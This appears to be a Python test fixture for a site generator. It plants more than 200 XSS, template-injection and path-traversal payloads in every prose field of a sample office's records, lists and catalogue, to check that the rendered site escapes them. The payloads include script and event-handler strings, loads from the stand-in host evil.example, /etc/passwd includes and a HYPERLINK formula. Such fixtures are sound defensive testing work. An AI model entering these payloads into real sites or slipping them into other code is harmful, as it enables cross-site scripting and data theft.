"""Scripts that somebody types into an office's facts: more than two hundred of them, and an office with some in every field.

Each calls ``alert`` or another host when it runs; nothing of ours does either.
"""

from __future__ import annotations

import csv
import io
import json
import shutil
from collections.abc import Iterator, Sequence
from itertools import product
from pathlib import Path
from typing import get_args

from pydantic.fields import FieldInfo

from generator import catalogues, fields, models, pipeline, shapes, source
from generator.library import Entry, Library
from generator.models import listing
from generator.shapes import Shape
from generator.source import KeyPath, Tree
from tests import building

_RUN = "alert(1)"
_HOST = "//evil.example/x"

_WRITTEN = (
    f"<script>{_RUN}</script>",
    f"<SCRIPT SRC={_HOST}.js></SCRIPT>",
    f"<script/src={_HOST}.js></script>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<script x>{_RUN}</script x>",
    f"<script type=module>import('{_HOST}.js')</script>",
    f"</title><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>",
    f"</noscript><script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"--><script>{_RUN}</script>",
    f"]]><script>{_RUN}</script>",
    f"'\"><script>{_RUN}</script>",
    f'"><img src=x onerror={_RUN}>',
    f"' onmouseover='{_RUN}",
    f'" onfocus="{_RUN}" autofocus="',
    f"` onload=`{_RUN}",
    f"<!--<img src=--><img src=x onerror={_RUN}//-->",
    f"<![CDATA[<script>{_RUN}</script>]]>",
    f"<?xml version='1.0'?><script>{_RUN}</script>",
    f"<%<script>{_RUN}</script>%>",
    f"<iframe src=javascript:{_RUN}></iframe>",
    f"<iframe srcdoc='<script>{_RUN}</script>'></iframe>",
    f"<iframe src={_HOST}></iframe>",
    f"<object data=javascript:{_RUN}></object>",
    f"<object data={_HOST}></object>",
    f"<embed src={_HOST}.swf>",
    f"<applet code={_HOST}></applet>",
    f"<base href={_HOST}/>",
    f"<meta http-equiv=refresh content='0;url={_HOST}'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{_RUN}'>",
    f"<link rel=stylesheet href={_HOST}.css>",
    f"<link rel=prefetch href={_HOST}>",
    f"<style>@import '{_HOST}.css'</style>",
    f"<style>*{{background:url({_HOST})}}</style>",
    f"<div style=background:url({_HOST})>x</div>",
    f"<div style=width:expression({_RUN})>x</div>",
    f"<form action={_HOST}><button>x</button></form>",
    f"<button formaction=javascript:{_RUN}>x</button>",
    f"<isindex type=image src=1 onerror={_RUN}>",
    f"<input type=image src={_HOST}>",
    f"<img src={_HOST}.png>",
    f"<img srcset='{_HOST}.png 2x'>",
    f"<picture><source srcset={_HOST}.png><img></picture>",
    f"<video poster={_HOST}.png></video>",
    f"<audio src={_HOST}.mp3 autoplay></audio>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><script href=data:text/javascript,{_RUN}></script></svg>",
    f"<svg><a xlink:href=javascript:{_RUN}><text y=20>x</text></a></svg>",
    f"<svg><use href=data:image/svg+xml,x#{_RUN}></use></svg>",
    f"<svg><image href={_HOST}.png></image></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><set attributeName=href to=javascript:{_RUN}>",
    f"<svg><foreignObject><img src=x onerror={_RUN}></foreignObject></svg>",
    f"<svg></p><style><a id='</style><img src=1 onerror={_RUN}>'>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>",
    f"<math href=javascript:{_RUN}>x</math>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<template><script>{_RUN}</script></template>",
    f"<xmp><p title='</xmp><img src=x onerror={_RUN}>'>",
    f"<plaintext><script>{_RUN}</script>",
    f"<a href=javascript:{_RUN}>x</a>",
    f"<a href='java&#10;script:{_RUN}'>x</a>",
    f"<a href=&#106;avascript:{_RUN}>x</a>",
    f"<a href='data:text/html,<script>{_RUN}</script>'>x</a>",
    f"<a href=vbscript:{_RUN}>x</a>",
    f"<a href=x ping={_HOST}>x</a>",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"&#60;script&#62;{_RUN}&#60;/script&#62;",
    f"&amp;lt;img src=x onerror={_RUN}&amp;gt;",
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    f"%3Cscript%3E{_RUN}%3C/script%3E",
    f"+ADw-script+AD4-{_RUN}+ADw-/script+AD4-",
    f"\\x3cscript\\x3e{_RUN}",
    f"＜script＞{_RUN}＜/script＞",
    f"{{{{constructor.constructor('{_RUN}')()}}}}",
    "{{7*7}}",
    "{{ config }}",
    "{{ ''.__class__.__mro__ }}",
    "{% include '/etc/passwd' %}",
    "{% for x in range(99) %}x{% endfor %}",
    "{# x #}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    '--8<-- "/etc/passwd"',
    "--8<--",
    "[TOC]",
    "{: onclick=alert(1) }",
    "{.class #id onload=alert(1)}",
    "!!! note",
    "???+ note",
    "=== tab",
    "::: generator.cli",
    "[^1]: note",
    "*[HTML]: x",
    "~~~ {.js}",
    "```js",
    f"![x]({_HOST}.png)",
    f"![x](x){{ onerror={_RUN} }}",
    f"[x](javascript:{_RUN})",
    f"[x](JaVaScRiPt:{_RUN})",
    f"[x](java&#115;cript:{_RUN})",
    f"[x](data:text/html,{_RUN})",
    f"[x](vbscript:{_RUN})",
    f"[x](<javascript:{_RUN}>)",
    f'[x](https://a.go.th "onclick={_RUN}")',
    f"<javascript:{_RUN}>",
    f"[a]: javascript:{_RUN}",
    f'");{_RUN};//',
    f"');{_RUN};//",
    f"\\');{_RUN};//",
    f'"}};{_RUN};//',
    f"*/{_RUN}/*",
    f"javascript:{_RUN}",
    f'=HYPERLINK("{_HOST}")',
    "../../../etc/passwd",
    "<x",
    "</main></body></html>",
    "<!-- ",
    "a<b>c</b",
)
_ELEMENTS = (
    "img src=x",
    "svg",
    "body",
    "input autofocus",
    "details open",
    "video src=x",
    "audio src=x",
    "marquee",
    "select autofocus",
)
_EVENTS = (
    "onerror",
    "onload",
    "onfocus",
    "ontoggle",
    "onstart",
    "onmouseover",
    "onclick",
    "onanimationstart",
    "onpointerenter",
    "onbeforetoggle",
)
PAYLOADS = (
    *_WRITTEN,
    *(f"<{element} {event}={_RUN}>" for element, event in product(_ELEMENTS, _EVENTS)),
)


class Injected:
    """An office with payloads in every field of words that its records, lists and catalogue have, each field once."""

    def __init__(self, base: Path, payloads: Sequence[str]) -> None:
        self.payloads = payloads
        self.planted: dict[tuple[str, str], str] = {}  # the mark before the payloads, by shape and field
        self._base = base
        self._files: dict[str, str | bytes] = {}
        library = _library(base)
        for entry in _entries(library):
            if entry.kind in models.TABLE_KINDS:
                self._inject_list(entry)
            else:
                self._inject(entry)
        newest = next(iter(library.years.values()))
        self._inject_catalogue(newest.year.catalogue)

    def write(self, folder: Path) -> Path:
        """Write its content folder."""
        return building.write(Path(shutil.copytree(self._base, folder / "content")), self._files)

    def _inject(self, entry: Entry) -> None:
        tree = json.loads(json.dumps(entry.document.tree))
        if self._fill_all(tree, entry.record):
            self._files[Path(entry.document.path).relative_to(self._base).as_posix()] = _written(tree)

    def _inject_list(self, entry: Entry) -> None:
        """Write a list anew with payloads in its first row; a spreadsheet knows no paragraphs, so a cell has one line."""
        path = Path(entry.document.path)
        rows = list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8-sig"))))
        known = listing.kind_of(entry.record)
        for name, title in known.columns:
            key = (known.row.__name__, name)
            if key not in self.planted and _is_prose(known.row.model_fields[name]):
                rows[0][title] = " ".join([self._mark(key), *self.payloads])
        made = io.StringIO()
        writer = csv.DictWriter(made, rows[0])
        writer.writeheader()
        writer.writerows(rows)
        self._files[path.relative_to(self._base).as_posix()] = made.getvalue()

    def _inject_catalogue(self, name: str) -> None:
        """Give the office a catalogue of its own, with an item that nothing answers, so that gaps are called by their name."""
        document, _ = source.read(Path(catalogues.__file__).with_name(f"{name}.yml"), name)
        assert document is not None
        tree = json.loads(json.dumps(document.tree))
        gap = {"id": "1", "text": "ก", "confidence": "unconfirmed"}
        unmet = {"code": "O99", "title": "ก", "topic": "unmet", "confidence": "unconfirmed", "elements": [gap]}
        tree["items"].append({**tree["items"][-1], **unmet})
        assert self._fill_all(tree, catalogues.shipped(name))
        self._files[f"catalogues/{name}.yml"] = _written(tree)

    def _fill_all(self, tree: Tree, record: Shape) -> bool:
        """Fill the fields of a record and of all in it; tells whether any was filled."""
        before = len(self.planted)
        for at, inner in shapes.walk(record):
            if isinstance(place := _at(tree, at), dict):  # a short form is a single text
                self._fill(place, inner)
        return len(self.planted) > before

    def _fill(self, tree: dict[str, Tree], record: Shape) -> None:
        for name, field in type(record).model_fields.items():
            key = (type(record).__name__, name)
            if key in self.planted or not _is_prose(field) or not _may_be_filled(name, tree, record):
                continue
            words = "\n\n".join([self._mark(key), *self.payloads])
            known = tree.get(name, [])
            is_list = name in shapes.lists(type(record))
            tree[name] = [words, *(known[1:] if isinstance(known, list) else [])] if is_list else words

    def _mark(self, key: tuple[str, str]) -> str:
        return self.planted.setdefault(key, f"⟦{len(self.planted)}⟧")


# Words that name a thing which must be there, and one that stands instead of such a name.
_NAMES_A_THING, _INSTEAD = {"record", "file"}, "text"


def _may_be_filled(name: str, tree: dict[str, Tree], record: Shape) -> bool:
    """Tell whether any words may stand in a field of a shape, beside what stands there already."""
    names_things = type(record).model_fields.keys() >= _NAMES_A_THING
    return not names_things or (name not in _NAMES_A_THING and (name != _INSTEAD or name in tree))


def _library(base: Path) -> Library:
    showing, _ = pipeline.check(base)
    assert showing is not None
    return showing.library


def _entries(library: Library) -> Iterator[Entry]:
    yield library.office_entry
    for book in library.years.values():
        yield from (book.entry, *book.entries.values())


def _written(tree: Tree) -> str:
    return json.dumps(tree, ensure_ascii=False, indent=0)


def _at(tree: Tree, keys: KeyPath) -> Tree:
    for key in keys:
        tree = tree[key]  # type: ignore[index]  # keys of a tree lead through that tree
    return tree


def _is_prose(field: FieldInfo) -> bool:
    inner = (
        field,
        *get_args(field.annotation),
        *(more for one in get_args(field.annotation) for more in get_args(one)),
    )
    return any(fields.PROSE in (*getattr(one, "metadata", ()), *getattr(one, "__metadata__", ())) for one in inner)
